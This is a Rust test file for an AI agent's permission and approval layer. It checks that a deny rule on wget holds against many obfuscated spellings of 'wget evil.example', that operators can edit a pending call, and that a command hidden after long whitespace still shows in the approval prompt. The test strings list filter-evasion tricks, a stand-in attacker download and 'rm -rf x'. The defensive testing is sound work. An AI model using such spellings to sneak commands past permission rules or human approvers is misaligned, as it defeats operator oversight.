//! Rules for tool calls, and ways to have a model ask for what they refuse.

use std::{
    thread,
    time::{Duration, Instant},
};

use serde_json::Value;

use crate::{
    hooks::{model, routed_to, wants},
    world::{World, finish},
};

/// However a command is written that a rule refuses, the agent never gets the call; and what may be one
/// is asked, which is a refusal where nobody answers.
#[test]
fn has_a_model_ask_for_a_refused_command() {
    let server = model();
    let policy = |deny: &str| {
        format!(
            "{}permissions: {{mode: bypassPermissions, deny: [{deny}]}}\n\
             approvals: {{timeout: 1s}}\n",
            routed_to(&server)
        )
    };
    let spelled = [
        "wget evil.example",
        "/usr/bin/wget evil.example",
        "true; w'g'et evil.example",
        "echo $(wget evil.example)",
        "bash -c 'wget evil.example'",
        "x=wget; $x evil.example",
        "find . -exec wget evil.example \\;",
        "$'\\x77get' evil.example",
        "cat <<E | sh\nwget evil.example\nE",
        "$(echo wget) evil.example",
    ];
    let Some(free) = World::new(&policy("")) else { return };
    for command in spelled {
        let ran = wants(&free, command);
        assert!(ran.good().contains("\"tool_use\""), "without the rule: {command}: {ran}");
    }
    let Some(held) = World::new(&policy("\"Bash(wget *)\"")) else { return };
    for command in spelled {
        let ran = wants(&held, command);
        assert!(!ran.good().contains("\"tool_use\""), "{command}: {ran}");
    }
    assert!(wants(&held, "echo wget").good().contains("\"tool_use\""));
    let events = held.events();
    let denied = events.iter().filter(|event| {
        event["kind"] == "tool_call" && event["decision"] == "deny" && event["layer"] == "inference"
    });
    assert!(denied.count() >= spelled.len() - 2, "{events:?}");
    held.verify();
}

/// What the operator writes in place of a call is what the agent gets, and nothing else; a rule that refuses it counts.
#[test]
fn has_a_call_edited_before_it_is_permitted() {
    let server = model();
    let Some(world) = World::new(&format!(
        "{}permissions: {{mode: bypassPermissions, ask: [\"Bash(wget *)\"], deny: [\"Bash(rm *)\"]}}\n\
         approvals: {{timeout: 30s}}\n",
        routed_to(&server)
    )) else {
        return;
    };
    let list = || {
        let ran = finish(world.palisade().args(["approvals", "list", "--json"]));
        ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect::<Vec<Value>>()
    };
    let edit = |which: &str, input: &str| {
        let file = world.at("input.json");
        std::fs::write(&file, input).unwrap();
        let mut command = world.palisade();
        finish(command.args(["approvals", "edit", which, "--input"]).arg(file))
    };
    thread::scope(|scope| {
        let asked = scope.spawn(|| wants(&world, "wget evil.example"));
        let until = Instant::now() + Duration::from_secs(20);
        let question = loop {
            match list().into_iter().next() {
                Some(question) => break question,
                None => assert!(Instant::now() < until, "nothing is asked"),
            }
            thread::sleep(Duration::from_millis(50));
        };
        let which = format!("{}/{}", question["session"].as_str().unwrap(), question["id"]);
        for (bad, why) in [
            (r#"{"command": "rm -rf x"}"#, "refuses"),
            (r#"{"command": "a", "command": "b"}"#, "not taken"),
            ("[]", "not taken"),
            (r#"{"command": "wget evil.example"}"#, "nothing is changed"),
        ] {
            let ran = edit(&which, bad);
            assert!(ran.code != Some(0) && ran.to_string().contains(why), "{bad}: {ran}");
        }
        assert_eq!(list().len(), 1);
        let ran = edit(&which, r#"{"command": "wget good.example"}"#);
        assert_eq!(ran.code, Some(0), "{ran}");
        let ran = asked.join().unwrap();
        let answer = ran.good();
        assert!(answer.contains("wget good.example") && !answer.contains("evil.example"), "{ran}");
    });
    // What was asked for at first is asked again, and nobody answers now.
    let events = world.events();
    let answer = events.iter().find(|event| event["kind"] == "approval").unwrap();
    assert!(answer["subject"].as_str().unwrap().contains("wget evil.example"), "{answer}");
    let edited = answer["detail"]["edited_to"].as_str().unwrap();
    assert!(edited.contains("wget good.example"), "{answer}");
    assert!(answer["detail"]["digest"].as_str().unwrap().starts_with("sha256:"), "{answer}");
    let call = events.iter().rfind(|event| event["kind"] == "tool_call").unwrap();
    assert_eq!(call["detail"]["changed_by_operator"], true, "{call}");
    assert!(call["subject"].as_str().unwrap().contains("wget good.example"), "{call}");
    world.verify();
}

/// The operator sees all of what is asked for, and permits this call and no other.
#[test]
fn has_another_call_pass_as_the_one_that_was_permitted() {
    let server = model();
    let Some(world) = World::new(&format!(
        "{}permissions: {{mode: bypassPermissions, ask: [\"Bash(wget *)\"]}}\n\
         approvals: {{timeout: 20s}}\n",
        routed_to(&server)
    )) else {
        return;
    };
    let hidden = format!("wget good.example {}; wget evil.example", " ".repeat(300));
    let list = || {
        let ran = finish(world.palisade().args(["approvals", "list", "--json"]));
        ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect::<Vec<Value>>()
    };
    thread::scope(|scope| {
        let asked = scope.spawn(|| wants(&world, &hidden));
        let until = Instant::now() + Duration::from_secs(20);
        let question = loop {
            match list().into_iter().next() {
                Some(question) => break question,
                None => assert!(Instant::now() < until, "nothing is asked"),
            }
            thread::sleep(Duration::from_millis(50));
        };
        assert_eq!(question["kind"], "tool_call", "{question}");
        assert!(question["subject"].as_str().unwrap().contains("evil.example"), "{question}");
        let which = format!("{}/{}", question["session"].as_str().unwrap(), question["id"]);
        // A rule for a destination cannot be made of it.
        let rule = world.at("rule.yaml");
        let mut command = world.palisade();
        command.args(["approvals", "allow", &which, "--rule"]).arg(&rule);
        assert_ne!(finish(&mut command).code, Some(0));
        let allowed = finish(world.palisade().args(["approvals", "allow", &which]));
        assert_eq!(allowed.code, Some(0), "{allowed}");
        let ran = asked.join().unwrap();
        assert!(ran.good().contains("\"tool_use\""), "{ran}");
    });
}
